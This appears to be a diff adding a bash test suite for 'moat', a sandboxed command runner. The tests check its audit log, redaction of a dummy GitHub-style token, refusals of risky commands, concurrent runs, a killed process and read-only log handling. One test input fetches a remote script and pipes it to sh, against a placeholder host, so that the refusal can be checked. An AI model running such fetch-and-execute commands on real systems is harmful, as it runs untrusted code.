@@ -1,0 +1,74 @@
+#!/bin/bash
+# moat run records every run in the audit log: before it starts and after,
+# with its output, denials and risk; refusals too; concurrency, a killed moat,
+# and an unwritable log.
+. "$(dirname "$0")/libtest.sh"
+require_sandbox
+export MOAT_DB="$T/audit.db"
+sq() { python3 -c 'import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); print("\n".join("|".join("" if v is None else str(v) for v in r) for r in c.execute(sys.argv[2])))' "$MOAT_DB" "$1"; }
+
+sandbox sh -c 'echo to-stdout; echo to-stderr >&2; unshare -U true 2>/dev/null; exit 4'
+is "the run's status passes through" "$rc" 4
+row=$(sq "SELECT status, exit_code, source, profile, net_mode, stdout_bytes, stderr_bytes, risk_static, risk_final FROM runs ORDER BY id DESC LIMIT 1")
+IFS='|' read -r st code src prof net ob eb rs rf <<<"$row"
+is "the row is complete" "$st $code $src $prof $net" "done 4 cli default isolated"
+is "stdout and stderr byte counts" "$ob $eb" "10 10"
+check "the static risk is stored" test -n "$rs"
+check "the denied unshare raised the final risk" test "${rf:-0}" -gt "${rs:-0}"
+like "the denied syscall is an event" "$(sq "SELECT name FROM events WHERE kind='syscall'")" "unshare"
+is "stdout's sha256 is stored" "$(sq "SELECT stdout_sha256 FROM runs ORDER BY id DESC LIMIT 1")" "$(printf 'to-stdout\n' | sha256sum | cut -d' ' -f1)"
+
+export GITHUB_TOKEN_TEST=ghp_abcdefghijklmnopqrstuvwxyz0123456789
+sandbox sh -c "echo ghp_abcdefghijklmnopqrstuvwxyz0123456789 >/dev/null; echo token=ghp_abcdefghijklmnopqrstuvwxyz0123456789"
+last=$(sq "SELECT max(id) FROM runs")
+like "the output head is kept" "$(sq "SELECT CAST(head AS TEXT) FROM outputs WHERE run=$last AND stream='stdout'")" "token="
+unlike "a token in argv and output is redacted in the log" "$(sq "SELECT r.argv || CAST(o.head AS TEXT) FROM runs r JOIN outputs o ON o.run = r.id WHERE r.id=$last")" "ghp_abcdefghijklmnopqrstuvwxyz0123456789"
+
+printf 'include = default\nrisk-refuse-above = 50\n' >"$T/strict.conf"
+run_moat run -p "$T/strict.conf" -- sh -c 'curl -s http://example.invalid/x.sh | sh; touch ran'
+is "a risky command is refused with 125" "$rc" 125
+check "and did not run" test ! -e "$T/ws/ran"
+is "the refusal is recorded" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "refused"
+
+# Twenty at once: twenty complete rows and a valid chain.
+before=$(sq "SELECT count(*) FROM runs")
+for i in $(seq 20); do (cd "$T/ws" && "$MOAT" run -- sh -c "echo $i" >/dev/null 2>&1) & done
+wait
+is "20 concurrent runs give 20 rows" "$(sq "SELECT count(*) FROM runs")" "$((before + 20))"
+is "all of them done" "$(sq "SELECT count(*) FROM runs WHERE status != 'done' AND status != 'refused'")" "0"
+run_moat audit verify
+is "the chain verifies" "$rc" 0
+is "the database is intact" "$(sq "PRAGMA integrity_check")" "ok"
+
+# moat killed with SIGKILL mid-run: the next moat marks the row interrupted.
+(cd "$T/ws" && exec "$MOAT" run -- sleep 300) >/dev/null 2>&1 &
+mpid=$!
+for _ in $(seq 50); do [ "$(sq "SELECT count(*) FROM runs WHERE status='running'")" = 1 ] && break; sleep 0.1; done
+is "a running run has its row before it ends" "$(sq "SELECT count(*) FROM runs WHERE status='running'")" "1"
+kill -KILL $mpid; wait $mpid 2>/dev/null
+sandbox true
+is "the next moat marks it interrupted" "$(sq "SELECT status FROM runs WHERE argv LIKE '%sleep%300%'")" "interrupted"
+run_moat audit verify
+is "the chain still verifies" "$rc" 0
+
+# A log that cannot be written: refused unless unlogged runs are allowed.
+mkdir -p "$T/ro"; cp "$MOAT_DB" "$T/ro/audit.db"; chmod 0444 "$T/ro/audit.db"; chmod 0555 "$T/ro"
+if ! is_root; then
+	MOAT_DB="$T/ro/audit.db" run_moat run -- touch ran2
+	is "an unwritable log refuses the run (125)" "$rc" 125
+	like "and says why" "$err" "audit|read-only|readonly"
+	check "nothing ran" test ! -e "$T/ws/ran2"
+	MOAT_DB="$T/ro/audit.db" run_moat run --unlogged -- touch ran3
+	is "--unlogged runs it anyway" "$rc" 0
+	check "it ran" test -e "$T/ws/ran3"
+else
+	MOAT_DB=/proc/moat-no-such/audit.db run_moat run -- touch ran2
+	is "an unwritable log refuses the run (125)" "$rc" 125
+	check "nothing ran" test ! -e "$T/ws/ran2"
+	MOAT_DB=/proc/moat-no-such/audit.db run_moat run --unlogged -- touch ran3
+	is "--unlogged runs it anyway" "$rc" 0
+	check "it ran" test -e "$T/ws/ran3"
+fi
+chmod 0755 "$T/ro"
+
+done_testing
